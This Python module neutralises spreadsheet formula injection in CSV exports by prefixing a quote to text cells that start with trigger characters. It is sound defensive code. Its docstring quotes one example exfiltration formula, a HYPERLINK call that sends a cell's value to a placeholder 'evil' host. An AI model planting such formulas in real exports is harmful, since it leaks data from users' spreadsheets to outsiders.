"""CSV cells that a spreadsheet cannot run as formulas (CSV or formula injection).

A class name, user name or metadata value such as ``=HYPERLINK("http://evil/?"&A1)`` is text to
us, but Excel, LibreOffice and Google Sheets evaluate a cell that starts with ``=``, ``+``,
``-``, ``@``, a tab or a carriage return. Following OWASP's advice, every text cell that starts
with one of them gets a leading ``'``, which spreadsheets show as plain text. Numbers (``-1.5``
in a numeric column) are not text and stay numbers. Every CSV written for people (the labels
export, the app's downloads, the simulation curves) goes through here; Lightly's embeddings CSV
is a machine format whose file names must round-trip, so it does not.

- [0] OWASP, CSV Injection, https://owasp.org/www-community/attacks/CSV_Injection
"""

from __future__ import annotations

import csv
import io
from collections.abc import Iterable, Sequence
from typing import Any

import pandas as pd

#: First characters a spreadsheet treats as the start of a formula.
FORMULA_TRIGGERS = ("=", "+", "-", "@", "\t", "\r")


def safe_cell(value: Any) -> Any:
    """``value`` with a leading ``'`` when it is text that a spreadsheet would evaluate."""
    if isinstance(value, str) and value.startswith(FORMULA_TRIGGERS):
        return "'" + value
    return value


def unsafe_cell(value: str) -> str:
    """Undoes ``safe_cell`` on text read back from one of our CSVs (a re-imported export)."""
    if value.startswith("'") and value[1:].startswith(FORMULA_TRIGGERS):
        return value[1:]
    return value


def safe_frame(df: pd.DataFrame) -> pd.DataFrame:
    """A copy of ``df`` whose text cells are neutralised; numeric columns are untouched."""
    out = df.copy()
    for col in out.columns:
        if out[col].dtype == object or pd.api.types.is_string_dtype(out[col].dtype):
            out[col] = out[col].map(safe_cell)
    out.columns = [safe_cell(c) if isinstance(c, str) else c for c in out.columns]
    return out


def csv_bytes(header: Sequence[str], rows: Iterable[Sequence[Any]]) -> bytes:
    """UTF-8 CSV text of ``header`` and ``rows``, every text cell neutralised."""
    buf = io.StringIO()
    w = csv.writer(buf)
    w.writerow([safe_cell(h) for h in header])
    for row in rows:
        w.writerow([safe_cell(v) for v in row])
    return buf.getvalue().encode()
